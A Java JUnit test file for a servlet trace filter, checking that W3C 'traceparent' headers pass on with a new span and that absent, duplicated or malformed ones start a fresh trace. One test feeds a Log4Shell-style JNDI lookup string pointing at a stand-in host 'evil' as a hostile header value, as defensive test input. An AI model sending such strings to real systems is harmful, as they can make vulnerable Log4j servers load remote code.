package org.shebaohub.web.guard;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.shebaohub.trace.Trace;
import org.shebaohub.trace.TraceAtHand;
import org.slf4j.MDC;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;

class TraceFilterTests {

	private static final String TOLD = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";

	private final MockHttpServletRequest request = new MockHttpServletRequest();

	@Test
	@DisplayName("a request goes on with its caller's trace in a step of its own, for routes on other threads too, and for error pages")
	void goesOn() throws Exception {
		request.addHeader("traceparent", TOLD);
		Trace seen = seen();
		assertThat(seen.header()).startsWith("00-4bf92f3577b34da6a3ce929d0e0e4736-").endsWith("-01").isNotEqualTo(TOLD);
		assertThat(request.getAttribute(Trace.class.getName())).isEqualTo(seen);
		assertThat(seen()).isEqualTo(seen);
		assertThat(MDC.get(TraceAtHand.IN_LOG)).isNull();
	}

	@Test
	@DisplayName("SEC-09 a caller without a trace, with several, or with something else under its name gets one that begins here")
	void begins() throws Exception {
		assertThat(seen().id()).hasSize(32);
		request.removeAttribute(Trace.class.getName());
		request.addHeader("traceparent", "${jndi:ldap://evil/a}");
		assertThat(seen().id()).matches("[0-9a-f]{32}");
		request.removeAttribute(Trace.class.getName());
		request.removeHeader("traceparent");
		request.addHeader("traceparent", TOLD);
		request.addHeader("traceparent", TOLD);
		assertThat(seen().header()).doesNotContain("4bf92f3577b34da6a3ce929d0e0e4736");
	}

	private Trace seen() throws Exception {
		Trace[] seen = new Trace[1];
		new TraceFilter().doFilter(request, new MockHttpServletResponse(), (asked, answer) -> seen[0] = TraceAtHand.orBegin());
		return seen[0];
	}
}
